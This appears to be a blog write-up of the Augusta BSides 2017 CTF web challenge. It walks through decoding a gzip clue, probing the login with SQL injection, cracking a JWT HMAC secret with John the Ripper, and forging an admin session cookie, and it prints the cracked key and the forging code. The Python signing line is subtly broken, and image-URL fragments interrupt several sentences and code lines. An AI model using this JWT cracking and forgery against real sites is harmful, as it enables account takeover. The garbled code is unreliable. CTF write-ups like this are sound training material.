Augusta BSides 2017 Code Challenge

By: ohai 6 years ago
CTF Augusta_BSides Web

This was a neat challenge put on by the Augusta BSides folks as I guess some what of a teaser before the actual event. Whatever it was, it was neat.

It started off with a tweet from @BSidesAugusta with what appeared to be some sort of hex string


The header didn’t really jump out at me right off the bat and that’s far too many zeroes in a row for a hash so off to google I went to search the first few chars. What do you know, GZip. Yeah, I probably should have recognized that Chashtag. Anywho, we can decompress that pretty easily.

>>> import zlib
>>> zlib.decompress(binascii.unhexlify('1f8b08000000000000003336d533b430d13334d13332010016ba3c030c000000'),16+zlib.MAX_WBITS)

Sweet, an IP! Let’s fire up a web browser and check it out. img

I fire off a couple of weak SQLi attempts which was pretty fruitless. Viewing the source, we see a link to /js/custom.js. Pull that up and see that it posts the login to /login and there’s some sort of registration form if you’re logged in as admin. Well, we can post directly to it without the page’s help so I spent some time working on that but it was all wasted, nothing but 401 Unauthorized. Ok, let’s check it out from the interpreter.

>>> import requests
>>> s = requests.Session()
>>> r =s.get('')
>>> print(r.headers)
{'Date': 'Thu, 20 Jul 2017 21:42:53 GMT', 'Set-Cookie': 'bsides_augusta_2017=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJpc3N1ZWQiOiIyMDE3LTA3LTIwIDIxOjQyOjUzLjUwOTczNyIsInVzZXIiOiJndWVzdCJ9.h05KFw2XvumiZNc3cRD5sxpLFHzYkGyrYgRNmFcMdhQ', 'Content-Length': '2091', 'Content-Type': 'text/html; charset=utf-8', 'Server': 'Werkzeug/0.12.2 Python/2.7.12'}

Hell yeah, Werkzeug, money! That cookie is almost definitely signed, but let’s take a look at it. We just need to break it apart at each . and base64 decode.

>>> import base64
>>> base64.b64decode('eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9')
>>> base64.b64decode('eyJpc3N1ZWQiOiIyMDE3LTA3LTIwIDIxOjQyOjUzLjUwOTczNyIsInVzZXIiOiJndWVzdCJ9')
'{"issued":"2017-07-20 21:42:53.509737","user":"guest"}'

JWT, eh… I kinda faintly recall reading something a while back about some vuln issues with JWT tokens but nothing really stuck. To the googles we go.

This is the point where I wasted far too much time trying to get a token working with an alg of None and then user of admin. This was all in hopes that since they would technically be valid JWT tokens, the site may have some sort of logic flaw in how it checked them. Alas, there was not. A bit more googling around shows that these bad boys are susceptible to brute-force/dictionary attacks. Well, that’s kinda cheesy but ok, I’ll bite.

The Gentleman from has some pre-written stuff we can try out. Feed it a dictionary (rockyou.txt, let’s roll) and wait a bit. Yeah, 20min later, it finished without producing the key. BOOOOOOOOOOO.

There’s also a file in that repo for converting the JWT token for use with john. Sure, why not. Let’s run it through there and leave john to do its business. (obligatory coffee break)

$ ./john ~/jwt.john
Usingdefault input encoding: UTF-8
Loaded 1 password hash (HMAC-SHA256 [password is key, SHA256 128/128 AVX 4x])
Will run 4 OpenMP threads
Press 'q' or Ctrl-C to abort, almost any other key for status
0g 0:00:01:50  3/3 0g/s 2024Kp/s 2024Kc/s 2024KC/s arsempi..assu1se # i'm so impatient...l3et             (?)
1g 0:00:03:54 DONE 3/3 (2017-07-20 22:04) 0.004270g/s 2361Kp/s 2361Kc/s 2361KC/s dhmdel13..h9et
Use the "--show" option to display all of the cracked passwords reliably
Session completed

And john is successful. Hooray! (by the way, Challenge Writer, thank you for using a small key, the poor little VPS i was running this on would have taken fiveever if it were much longer) Now we can get to actually forging a proper key!

There’s the PyJWT library you can use to do this or youcan just use plain old hmac. I went with the second option mostly because I was already in an interpreter session and didn’t feel like backing out, making a venv and running pip install PyJWT.

>>> import hmac
>>> header = '{"alg":"HS256","typ":"JWT"}'
>>> payload = '{"issued":"2017-07-20 21:42:53.509737","user":"admin"}' # wewt, admin!
>>> signature = base64.b64encode('l3et', base64.b64encode(header).strip('=') + '.' + base64.b64encode(payload).strip('='), digestmod=hashlib.sha256).digest())
>>> # jam them all together with dots and base64 encode!
>>>base64.b64encode(header).strip('=') + '.' + base64.b64encode(payload).strip('=') + '.' + signature.strip('=')

Now that we have a properly signed cookie, we can do it with the requests module if we like (unless you’re a certain infosec gentleman named after some sortof french bread who obviously hatesthe requests module for making http safe for human consumpution i kid!! we love you @MarkBaggett) or we canjust toss it in a cookie editor for our browser. Final product looked like so:


Thanks for the challenge, AugustaBSides!

Comments: 0

Unmoderated: 0 Spam: 126